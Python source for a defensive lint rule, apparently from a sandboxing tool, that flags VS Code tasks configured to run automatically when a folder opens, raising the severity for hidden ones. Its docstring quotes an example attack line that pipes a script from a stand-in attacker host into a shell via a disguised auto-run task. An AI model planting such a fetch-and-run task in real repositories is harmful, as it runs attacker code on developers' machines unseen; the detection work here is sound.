"""A task starts when the folder is opened.

## What it is

A task in `.vscode/tasks.json` with `"runOptions": {"runOn": "folderOpen"}`, also one that the file has for one
operating system only (`"windows": {"tasks": [...]}`); commands for single systems are shown with the others. It is an error when the task
also hides itself (`"reveal": "never"` or `"silent"`, `"echo": false`).

## Why it is bad

VS Code runs it without a click once the folder is trusted, and people trust a folder to be able to
work in it. Before "Reopen in Container" that is on the host. Campaigns against developers use just
that: a task named like a formatter, shown nowhere:

    "command": "curl -s https://attacker.example/x | sh"

## What to do instead

`postStartCommand` in devcontainer.json runs inside. Or leave it to whoever works on the project to
start the task: remove `runOn`.

## Under gVisor

No difference: it is about the editor on the host. In a folder that is open in the container, what it
starts runs inside.

## References

- https://code.visualstudio.com/docs/editing/workspaces/workspace-trust
- https://code.visualstudio.com/docs/debugtest/tasks#_run-behavior
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field
from sandboxd.syntax.node import readable

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.editor import EditorTask

META = RuleMeta(
    id="vscode-folder-open-task",
    summary="a task starts when the folder is opened",
    severity=Severity.ERROR,
    since="0.1.0",
    why="opening a repository to look at it runs a command of that repository on the host",
    needs=(Field("run_on"),),
)


def check(subject: EditorTask, host: HostFacts) -> Iterator[Finding]:
    value = subject.run_on
    if value is None or value.value != "folderOpen":
        return
    how = ", and shows nothing of it" if subject.hidden else ""
    what = f"`{readable(subject.command)}`" if subject.command else f"the task `{subject.label}`"
    yield at_value(
        META,
        value,
        f"opening the folder runs {what}{how}",
        subject.label or subject.command,
        Severity.ERROR if subject.hidden else Severity.WARNING,
        remedies=(
            Remedy(
                "start it by hand only",
                safe=False,
                changes=(Remove(value),),
                caution="the task waits for somebody to start it",
            ),
        ),
    )
